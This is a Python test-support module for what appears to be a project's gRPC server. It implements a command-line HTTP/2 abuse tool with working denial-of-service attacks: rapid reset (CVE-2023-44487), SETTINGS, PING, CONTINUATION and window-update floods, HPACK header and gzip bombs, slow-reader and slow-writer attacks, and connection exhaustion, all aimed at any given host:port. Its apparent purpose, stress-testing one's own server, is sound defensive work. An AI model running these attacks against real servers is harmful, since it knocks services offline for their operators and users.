"""One way of abusing an HTTP/2 server: `python -m tests.support.abuser KIND HOST:PORT SECONDS`. For tests alone.

Connections that the server closes are opened again, so that what is measured beside it is the abuse and not its end.
"""

import asyncio
import gzip
import sys
import time
from collections.abc import Awaitable, Callable

from abfleet_protos.recommender_pb2 import RecommendRequest
from abfleet_transport.http2 import frames as http2
from abfleet_transport.http2.frames import frame

from tests.support.frames import FrameReader

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEAD = http2.request_headers("/Recommender/Recommend", "router")
MESSAGE = RecommendRequest(item_ids=[1, 2, 3, 10, 15]).SerializeToString()
BODY = http2.MESSAGE_PREFIX.pack(0, len(MESSAGE)) + MESSAGE
MIB = 1024 * 1024
LAST_STREAM = 2**31 - 1
PAUSE_SECONDS = 0.01
"""After a connection ended, so that to connect is not the abuse."""


class Peer:
    """A connection that keeps to the windows of the server."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._windows = {0: http2.DEFAULT_WINDOW}
        self._stream_window = http2.DEFAULT_WINDOW
        self._moved = asyncio.Event()
        self.reading = asyncio.ensure_future(self._read())

    async def _read(self) -> None:
        frames = FrameReader(2**24)
        while data := await self._reader.read(MIB):
            for got in frames.feed(data):
                if got.kind == http2.WINDOW_UPDATE:
                    self._windows[got.stream] = self._window(got.stream) + http2.uint31(got.payload)
                elif got.kind == http2.SETTINGS and not got.flags & http2.ACK:
                    self._stream_window = dict(http2.settings(got.payload)).get(http2.INITIAL_WINDOW_SIZE, 65_535)
            self._moved.set()
        raise ConnectionResetError

    def _window(self, stream: int) -> int:
        return self._windows.get(stream, self._stream_window)

    async def send(self, data: bytes) -> None:
        """As it is."""
        if self.reading.done():
            raise ConnectionResetError
        self._writer.write(data)
        await self._writer.drain()

    async def message(self, stream: int, body: bytes, head: bytes = HEAD, *, ends: bool = True) -> None:
        """A call with a body of any length, as fast as the server takes it."""
        await self.send(frame(http2.HEADERS, http2.END_HEADERS, stream, head))
        left = memoryview(body)
        while left:
            room = min(self._window(0), self._window(stream), http2.DEFAULT_MAX_FRAME, len(left))
            if room <= 0:
                self._moved.clear()
                waiting = asyncio.ensure_future(self._moved.wait())
                await asyncio.wait((waiting, self.reading), return_when=asyncio.FIRST_COMPLETED)
                waiting.cancel()
                if self.reading.done():
                    raise ConnectionResetError
                continue
            for one in (0, stream):
                self._windows[one] = self._window(one) - room
            last = ends and room == len(left)
            await self.send(frame(http2.DATA, http2.END_STREAM if last else 0, stream, bytes(left[:room])))
            left = left[room:]


Abuse = Callable[[Peer], Awaitable[None]]


async def rapid_reset(peer: Peer) -> None:
    """CVE-2023-44487: calls that are cancelled at once."""
    for first in range(1, LAST_STREAM, 200):
        parts = []
        for stream in range(first, first + 200, 2):
            parts.append(frame(http2.HEADERS, http2.END_HEADERS, stream, HEAD))
            parts.append(frame(http2.DATA, http2.END_STREAM, stream, BODY))
            parts.append(frame(http2.RST_STREAM, 0, stream, http2.UINT32.pack(http2.CANCEL)))
        await peer.send(b"".join(parts))
        await asyncio.sleep(0)


def flood(data: bytes) -> Abuse:
    """The same bytes without end."""

    async def flooding(peer: Peer) -> None:
        while True:
            await peer.send(data)
            await asyncio.sleep(0)

    return flooding


async def header_bomb(peer: Peer) -> None:
    """A header of 4,000 bytes goes into the table once, and is named 15,000 times: 60 MB in 16 KB."""
    stored = b"\x40" + http2.literal("x") + http2.integer(4000, 7) + b"y" * 4000
    for stream in range(1, LAST_STREAM, 2):
        await peer.send(frame(http2.HEADERS, 5, stream, HEAD + stored + b"\xbe" * 12_000))


async def continuation_flood(peer: Peer) -> None:
    """A header block that does not end."""
    await peer.send(frame(http2.HEADERS, 0, 1, HEAD))
    part = b"".join(b"\x00" + http2.literal(f"x{n}") + http2.literal("y" * 100) for n in range(140))
    while True:
        await peer.send(frame(http2.CONTINUATION, 0, 1, part[:16_000]))


async def slow_writer(peer: Peer) -> None:
    """A call whose message comes byte by byte, a second each."""
    await peer.send(frame(http2.HEADERS, http2.END_HEADERS, 1, HEAD))
    for byte in BODY * 1000:
        await peer.send(frame(http2.DATA, 0, 1, bytes((byte,))))
        await asyncio.sleep(1)


async def slow_reader(peer: Peer) -> None:
    """Gives no window for answers, and calls and calls."""
    await peer.send(frame(http2.SETTINGS, 0, 0, http2.SETTING.pack(http2.INITIAL_WINDOW_SIZE, 0)))
    for stream in range(1, LAST_STREAM, 2):
        await peer.send(frame(http2.HEADERS, 4, stream, HEAD) + frame(http2.DATA, 1, stream, BODY))
        await asyncio.sleep(0.002)


async def window_flood(peer: Peer) -> None:
    """Has 3,000 answers wait for a window, and opens that of all of them without end, by a byte."""
    await peer.send(frame(http2.SETTINGS, 0, 0, http2.SETTING.pack(http2.INITIAL_WINDOW_SIZE, 0)))
    for stream in range(1, 6000, 2):
        await peer.send(frame(http2.HEADERS, 4, stream, HEAD) + frame(http2.DATA, 1, stream, BODY))
        await asyncio.sleep(0.0002)
    await flood(http2.window_update(0, 1) * 500)(peer)


async def endless_message(peer: Peer) -> None:
    """A message that says it has 2 GiB, and goes on."""
    await peer.message(1, http2.MESSAGE_PREFIX.pack(0, 2**31 - 1) + bytes(1024 * MIB), ends=False)


async def huge_messages(peer: Peer) -> None:
    """Messages of 64 MiB, one after the other."""
    body = http2.MESSAGE_PREFIX.pack(0, 64 * MIB) + bytes(64 * MIB)
    for stream in range(1, LAST_STREAM, 2):
        await peer.message(stream, body)


async def gzip_bomb(peer: Peer) -> None:
    """100 MiB of zeros in 100 KB."""
    packed = gzip.compress(bytes(100 * MIB), 9)
    head = http2.request_headers("/Recommender/Recommend", "router", ("grpc-encoding", "gzip"))
    for stream in range(1, LAST_STREAM, 2):
        await peer.message(stream, http2.MESSAGE_PREFIX.pack(1, len(packed)) + packed, head)
        await asyncio.sleep(0.05)


async def idle(peer: Peer) -> None:
    """Is there."""
    await asyncio.sleep(3600)


ABUSES: dict[str, tuple[Abuse, int]] = {
    "rapid reset": (rapid_reset, 1),
    "settings flood": (flood(frame(http2.SETTINGS, 0, 0) * 500), 1),
    "ping flood": (flood(frame(http2.PING, 0, 0, bytes(8)) * 500), 1),
    "header bomb": (header_bomb, 1),
    "continuation flood": (continuation_flood, 1),
    "window flood": (window_flood, 1),
    "slow writers": (slow_writer, 500),
    "slow readers": (slow_reader, 4),
    "endless message": (endless_message, 1),
    "huge messages": (huge_messages, 1),
    "gzip bombs": (gzip_bomb, 1),
    "2,000 connections": (idle, 2000),
}
"""With how many connections at once."""


async def keep_abusing(abuse: Abuse, host: str, port: int) -> None:
    """On one connection after the other."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(PAUSE_SECONDS)
            continue
        peer = Peer(reader, writer)
        try:
            await peer.send(PREFACE + frame(http2.SETTINGS, 0, 0))
            await abuse(peer)
        except (ConnectionError, http2.ProtocolError):
            await asyncio.sleep(PAUSE_SECONDS)
        finally:
            peer.reading.cancel()
            await asyncio.gather(peer.reading, return_exceptions=True)
            writer.close()


async def abusing(kind: str, address: str, seconds: float) -> None:
    """For so long."""
    abuse, connections = ABUSES[kind]
    host, _, port = address.rpartition(":")
    tasks = [asyncio.ensure_future(keep_abusing(abuse, host, int(port))) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        await asyncio.sleep(0.1)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(abusing(sys.argv[1], sys.argv[2], float(sys.argv[3])))
